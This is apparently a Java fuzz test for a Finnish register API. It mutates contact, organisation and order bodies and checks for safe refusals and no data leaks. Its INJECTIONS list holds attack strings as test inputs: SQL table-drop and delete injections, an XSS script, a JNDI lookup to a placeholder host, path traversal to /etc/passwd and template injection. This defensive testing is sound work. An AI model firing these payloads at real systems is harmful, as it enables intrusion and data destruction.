package fi.rekisteri.register.api;

import static io.restassured.RestAssured.given;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import fi.rekisteri.register.support.RegisterStack;
import fi.rekisteri.register.support.TestData;
import fi.rekisteri.register.support.Tokens;
import fi.rekisteri.stack.SendsBadInput;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Seeded-random fuzzing of the create bodies of contacts, organisations and orders. Each case
 * starts from a valid body and applies random mutations; the server must answer 201, or 400 with a
 * problem+json body that names a field (409 where a duplicate key was sent), must never answer 5xx,
 * leak internals or echo personal data, and must store nothing it refused.
 *
 * <p>Case {@code n} of seed {@code s} draws from {@code new Random(caseSeed(s, n))} only, so any
 * failing case can be replayed alone from the seed and case number in its description. Case 0 of
 * every seed is the unmutated body and must be created.
 */
@QuarkusTest
@WithTestResource(RegisterStack.class)
@SendsBadInput("random mutations of valid bodies: wrong types, broken JSON, unknown fields")
class RequestBodyFuzzTest {

  private static final int CASES_PER_SEED = 100;

  /** The README's example code; generated valid codes are used too. */
  private static final String EXAMPLE_HETU = "131052-308T";

  private static final String HETU_CHECK_CHARS = "0123456789ABCDEFHJKLMNPRSTUVWXY";

  private static final ObjectMapper JSON = new ObjectMapper();

  /** Distinguishes this JVM's records from any earlier run's in a reused database. */
  private static final String RUN = UUID.randomUUID().toString().substring(0, 6);

  @Inject AgroalDataSource dataSource;

  // ---- the three body types; the seeds are listed here, 3 seeds x 100 cases = 300 per type

  @ParameterizedTest(name = "contact seed {0}")
  @ValueSource(longs = {11L, 1952L, 20240611L})
  void givenValidContactBody_whenMutatedAtRandom_thenCreatedOrRefusedWithoutStoring(long seed) {
    fuzz(BodyType.CONTACT, seed);
  }

  @ParameterizedTest(name = "organisation seed {0}")
  @ValueSource(longs = {7L, 3141L, 8675309L})
  void givenValidOrganisationBody_whenMutatedAtRandom_thenCreatedOrRefusedWithoutStoring(
      long seed) {
    fuzz(BodyType.ORGANISATION, seed);
  }

  @ParameterizedTest(name = "order seed {0}")
  @ValueSource(longs = {42L, 2718L, 5551212L})
  void givenValidOrderBody_whenMutatedAtRandom_thenCreatedOrRefusedWithoutStoring(long seed) {
    fuzz(BodyType.ORDER, seed);
  }

  enum BodyType {
    CONTACT("/api/v1/contacts", "contact"),
    ORGANISATION("/api/v1/organisations", "organisation"),
    ORDER("/api/v1/orders", "customer_order");

    final String path;
    final String table;

    BodyType(String path, String table) {
      this.path = path;
      this.table = table;
    }
  }

  /** What a field holds, for the mutations that only make sense for some fields. */
  enum Kind {
    /** Free text that must never hold a henkilötunnus (@NoIdentityCode). */
    FREE_TEXT,
    TEXT,
    UUID_REF,
    DATE,
    INSTANT,
    ENUM,
    DECIMAL,
    OBJECT
  }

  private static final Map<String, Kind> CONTACT_FIELDS =
      fields(
          "firstName FREE_TEXT, lastName FREE_TEXT, title FREE_TEXT, organisationId UUID_REF,"
              + " email TEXT, phone TEXT, postalAddress OBJECT, postalAddress.street FREE_TEXT,"
              + " postalAddress.postalCode TEXT, postalAddress.city FREE_TEXT,"
              + " billingAddress OBJECT, billingAddress.street FREE_TEXT,"
              + " billingAddress.postalCode TEXT, billingAddress.city FREE_TEXT,"
              + " worksite FREE_TEXT, caseNumber FREE_TEXT, notes FREE_TEXT,"
              + " relationshipStart DATE, relationshipEnd DATE, source OBJECT,"
              + " source.channel ENUM, source.collectedAt INSTANT");

  private static final Map<String, Kind> ORGANISATION_FIELDS =
      fields(
          "name FREE_TEXT, businessId TEXT, visitingAddress OBJECT,"
              + " visitingAddress.street FREE_TEXT, visitingAddress.postalCode TEXT,"
              + " visitingAddress.city FREE_TEXT, billingAddress OBJECT,"
              + " billingAddress.street FREE_TEXT, billingAddress.postalCode TEXT,"
              + " billingAddress.city FREE_TEXT");

  private static final Map<String, Kind> ORDER_FIELDS =
      fields(
          "number TEXT, orderDate DATE, organisationId UUID_REF, contactId UUID_REF,"
              + " worksite FREE_TEXT, summary FREE_TEXT, total DECIMAL, currency TEXT,"
              + " source OBJECT, source.channel ENUM, source.collectedAt INSTANT");

  private static Map<String, Kind> fields(String table) {
    Map<String, Kind> fields = new LinkedHashMap<>();
    for (String entry : table.split(",")) {
      String[] parts = entry.trim().split(" ");
      fields.put(parts[0], Kind.valueOf(parts[1]));
    }
    return fields;
  }

  // ---- records the bodies refer to, made once

  private static Fixture fixture;

  record Fixture(
      String organisationId, String organisationBusinessId, String contactId, String orderNumber) {}

  private static synchronized Fixture fixture() {
    if (fixture == null) {
      String businessId = TestData.businessId();
      String organisationId = created("/api/v1/organisations", TestData.organisation(businessId));
      String contactId = created("/api/v1/contacts", TestData.contact());
      Map<String, Object> order = TestData.order(contactId);
      created("/api/v1/orders", order);
      fixture = new Fixture(organisationId, businessId, contactId, (String) order.get("number"));
    }
    return fixture;
  }

  private static String created(String path, Object body) {
    return given()
        .header("Authorization", Tokens.bearer("admin"))
        .contentType(ContentType.JSON)
        .body(body)
        .post(path)
        .then()
        .statusCode(201)
        .extract()
        .path("id");
  }

  // ---- one case

  /** The body of one case as sent, and what the case did to it. */
  static final class Case {
    final BodyType type;
    final long seed;
    final int number;
    final Random random;
    final List<String> mutations = new ArrayList<>();
    final List<String> randomValues = new ArrayList<>();
    boolean escapeUnicode;
    boolean malformed;
    boolean duplicateKey;
    String hetu;
    Map<String, Object> body;
    String email;
    String marker;
    String orderNumber;
    byte[] bytes;

    Case(BodyType type, long seed, int number) {
      this.type = type;
      this.seed = seed;
      this.number = number;
      this.random = new Random(caseSeed(seed, number));
    }

    String describe() {
      return String.format(
          "%s seed %d case %d %s",
          type.name().toLowerCase(Locale.ROOT),
          seed,
          number,
          mutations.isEmpty() ? "[unmutated]" : mutations);
    }
  }

  static long caseSeed(long seed, int caseNumber) {
    return seed * 1_000_003L + caseNumber * 0x9E3779B97F4A7C15L;
  }

  private void fuzz(BodyType type, long seed) {
    Fixture fixture = fixture();
    SoftAssertions softly = new SoftAssertions();
    int[] statuses = new int[600];
    for (int number = 0; number < CASES_PER_SEED; number++) {
      Case c = new Case(type, seed, number);
      build(c, fixture);
      mutate(c, fixture);
      statuses[check(c, softly)]++;
    }
    StringBuilder summary = new StringBuilder();
    for (int status = 0; status < statuses.length; status++) {
      if (statuses[status] > 0) {
        summary.append(' ').append(status).append(" x").append(statuses[status]);
      }
    }
    System.out.printf("fuzz %s seed %d:%s%n", type, seed, summary);
    softly.assertAll();
  }

  private static void build(Case c, Fixture fixture) {
    String tag = c.seed + "-" + c.number + "-" + RUN;
    Map<String, Object> body = new LinkedHashMap<>();
    switch (c.type) {
      case CONTACT -> {
        c.email = "fuzz-" + tag + "@example.fi";
        body.put("firstName", "Fuzz");
        body.put("lastName", "Tapaus-" + tag);
        body.put("title", "Hankintapäällikkö");
        body.put("organisationId", fixture.organisationId());
        body.put("email", c.email);
        body.put("phone", "+358 40 123 4567");
        body.put("postalAddress", address("Aleksanterinkatu 1", "00100", "Helsinki"));
        body.put("billingAddress", address("PL 123", "00101", "Helsinki"));
        body.put("worksite", "Työmaa Kallio");
        body.put("caseNumber", "ASIA-" + c.number);
        body.put("notes", "Soita mieluiten aamupäivisin");
        body.put("relationshipStart", "2023-01-15");
        body.put("relationshipEnd", "2030-12-31");
        body.put("source", source("WEB_FORM"));
      }
      case ORGANISATION -> {
        c.marker = "fuzzorg-" + tag;
        body.put("name", "Oy " + c.marker);
        body.put("businessId", businessId(c.random));
        body.put("visitingAddress", address("Mannerheimintie 1", "00100", "Helsinki"));
        body.put("billingAddress", address("PL 42", "00101", "Helsinki"));
      }
      case ORDER -> {
        c.orderNumber = "FZ-" + tag;
        body.put("number", c.orderNumber);
        body.put("orderDate", "2024-05-02");
        body.put("organisationId", fixture.organisationId());
        body.put("contactId", fixture.contactId());
        body.put("worksite", "Työmaa Kallio");
        body.put("summary", "Kattoremontti, 120 m2");
        body.put("total", new Raw("1250.00"));
        body.put("currency", "EUR");
        body.put("source", source("PHONE"));
      }
    }
    c.body = body;
  }

  private static Map<String, Object> address(String street, String postalCode, String city) {
    Map<String, Object> address = new LinkedHashMap<>();
    address.put("street", street);
    address.put("postalCode", postalCode);
    address.put("city", city);
    return address;
  }

  private static Map<String, Object> source(String channel) {
    Map<String, Object> source = new LinkedHashMap<>();
    source.put("channel", channel);
    source.put("collectedAt", "2024-05-01T10:15:30Z");
    return source;
  }

  // ---- mutations

  private static Map<String, Kind> fieldsOf(BodyType type) {
    return switch (type) {
      case CONTACT -> CONTACT_FIELDS;
      case ORGANISATION -> ORGANISATION_FIELDS;
      case ORDER -> ORDER_FIELDS;
    };
  }

  private static void mutate(Case c, Fixture fixture) {
    Random r = c.random;
    c.escapeUnicode = r.nextBoolean();
    if (c.number == 0) {
      c.bytes = Json.write(c.body, false);
      return;
    }
    int draw = r.nextInt(100);
    if (draw < 8) {
      c.malformed = true;
      c.bytes = nonJson(c, r);
      return;
    }
    if (draw < 16) {
      fieldMutations(c, r.nextInt(3));
      byte[] whole = Json.write(c.body, c.escapeUnicode);
      int length = r.nextInt(whole.length);
      c.malformed = true;
      c.mutations.add("truncated to " + length + " of " + whole.length + " bytes");
      c.bytes = Arrays.copyOf(whole, length);
      return;
    }
    if (draw < 28) {
      fieldMutations(c, r.nextInt(2));
      hetu(c, r);
    } else if (draw < 34 && c.type != BodyType.CONTACT) {
      fieldMutations(c, r.nextInt(4) == 0 ? 1 : 0);
      duplicate(c, fixture);
    } else {
      fieldMutations(c, 1 + r.nextInt(3));
    }
    c.bytes = Json.write(c.body, c.escapeUnicode);
  }

  private static void fieldMutations(Case c, int count) {
    for (int i = 0; i < count; i++) {
      fieldMutation(c);
    }
  }

  private static void fieldMutation(Case c) {
    Random r = c.random;
    Map<String, Kind> kinds = fieldsOf(c.type);
    List<String> paths = paths(c.body, "");
    if (paths.isEmpty()) {
      unknownField(c, c.body, "");
      return;
    }
    String path = paths.get(r.nextInt(paths.size()));
    Kind kind = kinds.getOrDefault(path, Kind.TEXT);
    int op = r.nextInt(12);
    switch (op) {
      case 0 -> {
        remove(c.body, path);
        c.mutations.add("drop " + path);
      }
      case 1 -> set(c, path, null, "null");
      case 2 -> {
        String value = randomString(c, r);
        set(c, path, value, "string " + summary(value));
      }
      case 3 -> {
        Raw value = randomNumber(r);
        set(c, path, value, "number " + value.json());
      }
      case 4 -> {
        boolean value = r.nextBoolean();
        set(c, path, value, "boolean " + value);
      }
      case 5 -> set(c, path, randomObject(c, r, 0), "object");
      case 6 -> set(c, path, randomArray(c, r), "array");
      case 7 -> {
        Map<String, Object> target = objectAt(c.body, path);
        unknownField(c, target, target == c.body ? "" : parentPath(path) + ".");
      }
      default -> kindSpecific(c, r, path, kind);
    }
  }

  /** A value that is wrong (or odd but valid) for this kind of field. */
  private static void kindSpecific(Case c, Random r, String path, Kind kind) {
    switch (kind) {
      case ENUM -> {
        String value =
            pick(
                r,
                "web_form",
                "Web_Form",
                "WEB FORM",
                " WEB_FORM",
                "PHONE\u0000",
                "SMS",
                "",
                "UNKNOWN",
                "EMAIL,PHONE",
                "\u0045MAIL\u200b",
                randomString(c, r));
        set(c, path, value, "enum garbage " + summary(value));
      }
      case DATE -> {
        String value =
            pick(
                r,
                "2024-13-01",
                "2024-02-30",
                "2023-02-29",
                "31.12.2024",
                "2024/01/01",
                "20240101",
                "2024-1-1",
                "",
                " ",
                "yesterday",
                "0000-00-00",
                "2024-01-01T00:00:00Z",
                "9999-12-31",
                "0001-01-01",
                "+10000-01-01",
                "+10000000-01-01",
                "-5000-01-01",
                "+999999999-12-31");
        set(c, path, value, "date " + summary(value));
      }
      case INSTANT -> {
        String value =
            pick(
                r,
                "2024-01-01",
                "2024-01-01T10:00:00",
                "2024-01-01T25:00:00Z",
                "2024-01-01 10:00:00Z",
                "2024-01-01T10:00:00+25:00",
                "yesterday",
                "",
                "9999-12-31T23:59:59Z",
                "0001-01-01T00:00:00Z",
                "1970-01-01T00:00:00Z",
                "-5000-01-01T00:00:00Z",
                "-1000000000-01-01T00:00:00Z",
                "2024-01-01T10:00:00.1234567891Z");
        set(c, path, value, "instant " + summary(value));
      }
      case UUID_REF -> {
        Object value =
            switch (r.nextInt(4)) {
              case 0 -> new UUID(r.nextLong(), r.nextLong()).toString();
              case 1 -> "00000000-0000-0000-0000-000000000000";
              case 2 -> pick(r, "not-a-uuid", "1234", "", "g0000000-0000-0000-0000-000000000000");
              default -> new Raw(Long.toString(r.nextLong()));
            };
        set(c, path, value, "uuid " + (value instanceof Raw raw ? raw.json() : summary(value)));
      }
      case DECIMAL -> {
        Object value =
            switch (r.nextInt(2)) {
              case 0 ->
                  new Raw(
                      pick(
                          r,
                          "-0.01",
                          "0",
                          "-0",
                          "0.001",
                          "1e3",
                          "1E-7",
                          "1234567890123.00",
                          "999999999999.99",
                          "1e400",
                          "-1e400",
                          "123456789012345678901234567890"));
              default -> pick(r, "12.50", "abc", "", "1,50", "12.5 EUR", "0x10", "Infinity");
            };
        set(c, path, value, "decimal " + (value instanceof Raw raw ? raw.json() : summary(value)));
      }
      default -> {
        String value = randomString(c, r);
        set(c, path, value, "string " + summary(value));
      }
    }
  }

  private static void unknownField(Case c, Map<String, Object> target, String prefix) {
    Random r = c.random;
    String name =
        pick(
            r,
            "id",
            "version",
            "createdAt",
            "erasedAt",
            "suppression",
            "restriction",
            "FirstName",
            "first_name",
            "__proto__",
            "nimi",
            "säätö",
            "x" + Integer.toHexString(r.nextInt()),
            "\u043f\u043e\u043b\u0435");
    Object value =
        switch (r.nextInt(4)) {
          case 0 -> randomString(c, r);
          case 1 -> randomNumber(r);
          case 2 -> null;
          default -> randomObject(c, r, 1);
        };
    target.put(name, value);
    c.mutations.add("unknown field " + prefix + name);
  }

  /** Puts a valid henkilötunnus into a free-text field; must always be refused. */
  private static void hetu(Case c, Random r) {
    Map<String, Kind> kinds = fieldsOf(c.type);
    List<String> candidates = new ArrayList<>();
    for (Map.Entry<String, Kind> field : kinds.entrySet()) {
      if (field.getValue() == Kind.FREE_TEXT && parentExists(c.body, field.getKey())) {
        candidates.add(field.getKey());
      }
    }
    String path =
        candidates.contains("notes") && r.nextBoolean()
            ? "notes"
            : candidates.get(r.nextInt(candidates.size()));
    String code = r.nextInt(4) == 0 ? EXAMPLE_HETU : randomHetu(r);
    if (r.nextInt(5) == 0) {
      code = code.toLowerCase(Locale.ROOT);
    }
    String text =
        switch (r.nextInt(5)) {
          case 0 -> code;
          case 1 -> "Asiakkaan hetu " + code + ", soita ensin";
          case 2 -> "hetu:" + code;
          case 3 -> "Muistiinpano\n(" + code + ")\tloppu";
          default -> code + " " + code;
        };
    c.hetu = code;
    setAt(c.body, path, text);
    c.mutations.add("henkilötunnus " + code + " in " + path);
  }

  private static void duplicate(Case c, Fixture fixture) {
    if (c.type == BodyType.ORGANISATION) {
      c.body.put("businessId", fixture.organisationBusinessId());
      c.mutations.add("businessId of an existing organisation");
    } else {
      c.body.put("number", fixture.orderNumber());
      c.mutations.add("number of an existing order");
    }
    c.duplicateKey = true;
  }

  private static byte[] nonJson(Case c, Random r) {
    int which = r.nextInt(14);
    String text =
        switch (which) {
          case 0 -> "firstName=Testi&lastName=Henkil%C3%B6";
          case 1 -> "<contact><firstName>Testi</firstName></contact>";
          case 2 -> "Hei, tässä tiedot";
          case 3 -> "{firstName: 'Testi', lastName: 'Henkilö'}";
          case 4 -> "{\"name\": \"Testi Oy\",}";
          case 5 -> "/* kommentti */ {\"name\": \"Testi Oy\"}";
          case 6 -> "{\"total\": NaN}";
          case 7 -> "[]";
          case 8 -> "\"just a string\"";
          case 9 -> "42";
          case 10 -> "";
          case 11 -> "   ";
          case 12 -> "[".repeat(1500) + "]".repeat(1500);
          default -> null;
        };
    if (text == null) {
      byte[] garbage = new byte[1 + r.nextInt(200)];
      r.nextBytes(garbage);
      c.mutations.add("random bytes (" + garbage.length + ")");
      return garbage;
    }
    c.mutations.add("not a JSON object: " + summary(text));
    return text.getBytes(StandardCharsets.UTF_8);
  }

  // ---- random values

  private static final String[] INJECTIONS = {
    "'; DROP TABLE contact; --",
    "<script>alert('x')</script>",
    "${jndi:ldap://example.invalid/a}",
    "%s%s%s%n%n",
    "../../../../etc/passwd",
    "{{7*7}}#{7*7}",
    "\" OR 1=1 --",
    "Robert'); DELETE FROM organisation;--"
  };

  private static final String CONTROL =
      "\u0000\u0001\u0007\b\t\n\u000b\f\r\u001b\u001f\u007f\u0085\u2028\u2029\u200b\ufeff";

  private static final String UNICODE =
      "äöåÄÖÅéüßçñøæ€£µ¿¡ΩЖжאבعربي中文日本語한국어ींदी\u0301\u0308\u212a\u0130\u0131\uff10";

  private static String randomString(Case c, Random r) {
    String value =
        switch (r.nextInt(9)) {
          case 0 -> chars(r, 1, 30, null);
          case 1 -> chars(r, 1, 40, UNICODE);
          case 2 -> chars(r, 101, r.nextInt(4) == 0 ? 5000 : 2000 + r.nextInt(3001), UNICODE);
          case 3 -> chars(r, 1, 20, CONTROL + "abc");
          case 4 -> pick(r, "", " ", "   ", "\t\n", "\u00a0", "\u200b");
          case 5 -> emoji(r);
          case 6 -> pick(r, INJECTIONS);
          case 7 -> pick(r, "0", "00100", "-1", "1e3", "true", "null", "NaN", "0x1F");
          default -> "Testi" + chars(r, 1, 5, CONTROL) + "Henkilö" + surrogate(r);
        };
    if (value.length() >= 12) {
      c.randomValues.add(value);
    }
    return value;
  }

  /** Characters from {@code alphabet}, or printable ASCII when it is null. */
  private static String chars(Random r, int min, int max, String alphabet) {
    int length = min + r.nextInt(max - min + 1);
    StringBuilder sb = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      if (alphabet == null || r.nextInt(4) == 0) {
        sb.append((char) (' ' + r.nextInt(95)));
      } else {
        sb.append(alphabet.charAt(r.nextInt(alphabet.length())));
      }
    }
    return sb.toString();
  }

  private static String emoji(Random r) {
    StringBuilder sb = new StringBuilder();
    int count = 1 + r.nextInt(10);
    for (int i = 0; i < count; i++) {
      sb.appendCodePoint(0x1F300 + r.nextInt(0x2FF));
    }
    return sb.toString();
  }

  /** A lone surrogate now and then: valid JSON as an escape, not valid UTF-16 text. */
  private static String surrogate(Random r) {
    return r.nextInt(3) == 0 ? String.valueOf((char) (0xD800 + r.nextInt(0x800))) : "";
  }

  private static Raw randomNumber(Random r) {
    return new Raw(
        switch (r.nextInt(6)) {
          case 0 -> Integer.toString(r.nextInt());
          case 1 -> Long.toString(r.nextLong());
          case 2 -> Double.toString(r.nextDouble() * 1e6);
          case 3 -> pick(r, "0", "-0", "1e10", "1E-7", "-1", "0.5");
          case 4 -> "9223372036854775808";
          default -> "123456789012345678901234567890.123456789";
        });
  }

  private static Map<String, Object> randomObject(Case c, Random r, int depth) {
    Map<String, Object> object = new LinkedHashMap<>();
    int size = r.nextInt(3);
    for (int i = 0; i < size; i++) {
      String key = pick(r, "a", "street", "value", "fi", "channel", "x" + r.nextInt(100));
      Object value =
          depth < 2 && r.nextInt(3) == 0
              ? randomObject(c, r, depth + 1)
              : r.nextBoolean() ? randomString(c, r) : randomNumber(r);
      object.put(key, value);
    }
    return object;
  }

  private static List<Object> randomArray(Case c, Random r) {
    List<Object> array = new ArrayList<>();
    int size = r.nextInt(4);
    for (int i = 0; i < size; i++) {
      array.add(
          switch (r.nextInt(4)) {
            case 0 -> randomString(c, r);
            case 1 -> randomNumber(r);
            case 2 -> null;
            default -> randomObject(c, r, 1);
          });
    }
    return array;
  }

  /** A valid henkilötunnus with any century sign, individual number 002-899 and check char. */
  static String randomHetu(Random r) {
    String signs = "+-YXWVUABCDEF";
    char sign = signs.charAt(r.nextInt(signs.length()));
    int century = sign == '+' ? 1800 : "ABCDEF".indexOf(sign) >= 0 ? 2000 : 1900;
    int yy = r.nextInt(century == 2000 ? 25 : 100);
    int month = 1 + r.nextInt(12);
    int day = 1 + r.nextInt(YearMonth.of(century + yy, month).lengthOfMonth());
    int individual = 2 + r.nextInt(898);
    String digits = String.format("%02d%02d%02d", day, month, yy);
    int number = Integer.parseInt(digits + String.format("%03d", individual));
    return digits + sign + String.format("%03d", individual) + HETU_CHECK_CHARS.charAt(number % 31);
  }

  static String businessId(Random r) {
    int[] weights = {7, 9, 10, 5, 8, 4, 2};
    while (true) {
      StringBuilder digits = new StringBuilder();
      int sum = 0;
      for (int i = 0; i < 7; i++) {
        int d = r.nextInt(10);
        digits.append(d);
        sum += d * weights[i];
      }
      int remainder = sum % 11;
      if (remainder != 1) {
        return digits + "-" + (remainder == 0 ? 0 : 11 - remainder);
      }
    }
  }

  @SafeVarargs
  private static <T> T pick(Random r, T... values) {
    return values[r.nextInt(values.length)];
  }

  // ---- the body tree

  /** A JSON token written as is, for numbers the way a client would write them. */
  record Raw(String json) {}

  /** The dotted paths of every field present, nested objects included. */
  @SuppressWarnings("unchecked")
  private static List<String> paths(Map<String, Object> object, String prefix) {
    List<String> paths = new ArrayList<>();
    for (Map.Entry<String, Object> entry : object.entrySet()) {
      String path = prefix + entry.getKey();
      paths.add(path);
      if (entry.getValue() instanceof Map<?, ?> nested) {
        paths.addAll(paths((Map<String, Object>) nested, path + "."));
      }
    }
    return paths;
  }

  private static String parentPath(String path) {
    int dot = path.lastIndexOf('.');
    return dot < 0 ? "" : path.substring(0, dot);
  }

  private static String leaf(String path) {
    return path.substring(path.lastIndexOf('.') + 1);
  }

  /** The object holding {@code path}, or null when a part of the way is not an object. */
  @SuppressWarnings("unchecked")
  private static Map<String, Object> parentOf(Map<String, Object> body, String path) {
    Map<String, Object> node = body;
    String parent = parentPath(path);
    if (parent.isEmpty()) {
      return node;
    }
    for (String part : parent.split("\\.")) {
      if (!(node.get(part) instanceof Map<?, ?> next)) {
        return null;
      }
      node = (Map<String, Object>) next;
    }
    return node;
  }

  /** The object a mutation at {@code path} adds an unknown field to. */
  @SuppressWarnings("unchecked")
  private static Map<String, Object> objectAt(Map<String, Object> body, String path) {
    Object value = parentOf(body, path).get(leaf(path));
    return value instanceof Map<?, ?> object ? (Map<String, Object>) object : parentOf(body, path);
  }

  private static boolean parentExists(Map<String, Object> body, String path) {
    return parentOf(body, path) != null;
  }

  private static void remove(Map<String, Object> body, String path) {
    parentOf(body, path).remove(leaf(path));
  }

  private static void setAt(Map<String, Object> body, String path, Object value) {
    parentOf(body, path).put(leaf(path), value);
  }

  private static void set(Case c, String path, Object value, String what) {
    setAt(c.body, path, value);
    c.mutations.add(path + " := " + what);
  }

  /** A short, printable description of a value for the case description. */
  private static String summary(Object value) {
    String text = String.valueOf(value);
    StringBuilder sb = new StringBuilder("\"");
    text.codePoints()
        .limit(24)
        .forEach(
            cp -> {
              if (cp < 0x20 || cp == 0x7f || (cp >= 0xD800 && cp <= 0xDFFF)) {
                sb.append(String.format("\\u%04x", cp));
              } else {
                sb.appendCodePoint(cp);
              }
            });
    sb.append(text.codePointCount(0, text.length()) > 24 ? "...\"" : "\"");
    return sb.append("(").append(text.length()).append(" chars)").toString();
  }

  /** Writes the tree as JSON; control characters and lone surrogates are always escaped. */
  static final class Json {

    private Json() {}

    static byte[] write(Object value, boolean escapeUnicode) {
      StringBuilder sb = new StringBuilder();
      write(sb, value, escapeUnicode);
      return sb.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static void write(StringBuilder sb, Object value, boolean escapeUnicode) {
      if (value == null) {
        sb.append("null");
      } else if (value instanceof Raw raw) {
        sb.append(raw.json());
      } else if (value instanceof Boolean || value instanceof Number) {
        sb.append(value);
      } else if (value instanceof String text) {
        string(sb, text, escapeUnicode);
      } else if (value instanceof Map<?, ?> map) {
        sb.append('{');
        boolean first = true;
        for (Map.Entry<?, ?> entry : map.entrySet()) {
          if (!first) {
            sb.append(',');
          }
          first = false;
          string(sb, (String) entry.getKey(), escapeUnicode);
          sb.append(':');
          write(sb, entry.getValue(), escapeUnicode);
        }
        sb.append('}');
      } else if (value instanceof List<?> list) {
        sb.append('[');
        for (int i = 0; i < list.size(); i++) {
          if (i > 0) {
            sb.append(',');
          }
          write(sb, list.get(i), escapeUnicode);
        }
        sb.append(']');
      } else {
        throw new IllegalArgumentException("cannot write " + value.getClass());
      }
    }

    private static void string(StringBuilder sb, String text, boolean escapeUnicode) {
      sb.append('"');
      for (int i = 0; i < text.length(); i++) {
        char ch = text.charAt(i);
        boolean pair =
            Character.isHighSurrogate(ch)
                && i + 1 < text.length()
                && Character.isLowSurrogate(text.charAt(i + 1));
        if (ch == '"' || ch == '\\') {
          sb.append('\\').append(ch);
        } else if (ch < 0x20
            || (Character.isSurrogate(ch) && !pair && !isLowOfPair(text, i))
            || (ch > 0x7e && escapeUnicode)) {
          sb.append(String.format("\\u%04x", (int) ch));
        } else {
          sb.append(ch);
        }
      }
      sb.append('"');
    }

    private static boolean isLowOfPair(String text, int i) {
      return Character.isLowSurrogate(text.charAt(i))
          && i > 0
          && Character.isHighSurrogate(text.charAt(i - 1));
    }
  }

  // ---- the checks

  /** Sends the case and checks the answer; returns the status. */
  private int check(Case c, SoftAssertions softly) {
    String d = c.describe();
    long before = count(c.type.table);
    Response response =
        given()
            .header("Authorization", Tokens.bearer("sales"))
            .contentType("application/json; charset=UTF-8")
            .body(c.bytes)
            .post(c.type.path);
    long after = count(c.type.table);
    int status = response.statusCode();
    String body = new String(response.asByteArray(), StandardCharsets.UTF_8);
    String contentType = String.valueOf(response.contentType());
    String shown = d + " -> " + status + " " + contentType + " " + abbreviate(body);

    Set<Integer> allowed;
    if (c.number == 0) {
      allowed = Set.of(201);
    } else if (c.malformed || c.hetu != null) {
      allowed = Set.of(400);
    } else if (c.duplicateKey) {
      allowed = c.mutations.size() == 1 ? Set.of(409) : Set.of(400, 409);
    } else if (c.type == BodyType.ORGANISATION) {
      allowed = Set.of(201, 400, 409);
    } else {
      allowed = Set.of(201, 400);
    }
    softly.assertThat(status).as("%s: status", shown).isIn(allowed);
    softly.assertThat(status).as("%s: never a server error", shown).isLessThan(500);

    for (String leak : List.of("Exception", "java.", "at fi.")) {
      softly.assertThat(body).as("%s: body leaks %s", shown, leak).doesNotContain(leak);
    }
    if (c.hetu != null) {
      softly
          .assertThat(body.toUpperCase(Locale.ROOT))
          .as("%s: body echoes the henkilötunnus", shown)
          .doesNotContain(c.hetu.toUpperCase(Locale.ROOT));
    }

    if (status == 201) {
      softly
          .assertThat(after)
          .as("%s: a 201 stores one %s", shown, c.type.table)
          .isEqualTo(before + 1);
      return status;
    }

    softly
        .assertThat(after)
        .as("%s: a refusal stores nothing in %s", shown, c.type.table)
        .isEqualTo(before);
    storedNothing(c, softly, shown);
    if (status >= 400 && status < 500) {
      for (String value : c.randomValues) {
        softly
            .assertThat(body)
            .as("%s: body echoes a submitted value", shown)
            .doesNotContain(value);
      }
      softly
          .assertThat(contentType)
          .as("%s: content type", shown)
          .startsWith("application/problem+json");
      if (!contentType.startsWith("application/problem+json")) {
        // one failure per case is enough; the body is not a problem to look into
        return status;
      }
      JsonNode problem = parse(body);
      softly.assertThat(problem).as("%s: body is JSON", shown).isNotNull();
      if (problem != null) {
        softly
            .assertThat(problem.path("status").asInt())
            .as("%s: status field", shown)
            .isEqualTo(status);
        if (status == 400 && !c.malformed) {
          boolean namesField = false;
          for (JsonNode error : problem.path("errors")) {
            namesField |= !error.path("field").asText("").isBlank();
          }
          softly.assertThat(namesField).as("%s: errors name a field", shown).isTrue();
        }
      }
    }
    return status;
  }

  /** What a client can see: the refused record cannot be found. */
  private static void storedNothing(Case c, SoftAssertions softly, String shown) {
    String dpo = Tokens.bearer("dpo");
    switch (c.type) {
      case CONTACT -> {
        Response found =
            given()
                .header("Authorization", dpo)
                .queryParam("email", c.email)
                .get("/api/v1/contacts");
        softly.assertThat(found.statusCode()).as("%s: search by email", shown).isEqualTo(200);
        softly
            .assertThat(found.jsonPath().getList("items"))
            .as("%s: contacts with the case's email %s", shown, c.email)
            .isEmpty();
      }
      case ORGANISATION -> {
        Response found =
            given()
                .header("Authorization", dpo)
                .queryParam("name", c.marker)
                .get("/api/v1/organisations");
        softly.assertThat(found.statusCode()).as("%s: list by name", shown).isEqualTo(200);
        softly
            .assertThat(found.jsonPath().getList("items"))
            .as("%s: organisations named like %s", shown, c.marker)
            .isEmpty();
      }
      case ORDER -> {
        List<String> numbers = new ArrayList<>();
        String cursor = null;
        do {
          Response page =
              given()
                  .header("Authorization", dpo)
                  .queryParam("contactId", fixture().contactId())
                  .queryParam("limit", 200)
                  .queryParams(cursor == null ? Map.of() : Map.of("cursor", cursor))
                  .get("/api/v1/orders");
          softly.assertThat(page.statusCode()).as("%s: list orders", shown).isEqualTo(200);
          if (page.statusCode() != 200) {
            return;
          }
          numbers.addAll(page.jsonPath().getList("items.number", String.class));
          cursor = page.jsonPath().getString("next");
        } while (cursor != null);
        softly
            .assertThat(numbers)
            .as("%s: orders numbered %s", shown, c.orderNumber)
            .doesNotContain(c.orderNumber);
      }
    }
  }

  private long count(String table) {
    try (Connection connection = dataSource.getConnection();
        Statement statement = connection.createStatement();
        ResultSet rows = statement.executeQuery("select count(*) from " + table)) {
      rows.next();
      return rows.getLong(1);
    } catch (SQLException e) {
      throw new IllegalStateException("cannot count " + table, e);
    }
  }

  private static JsonNode parse(String body) {
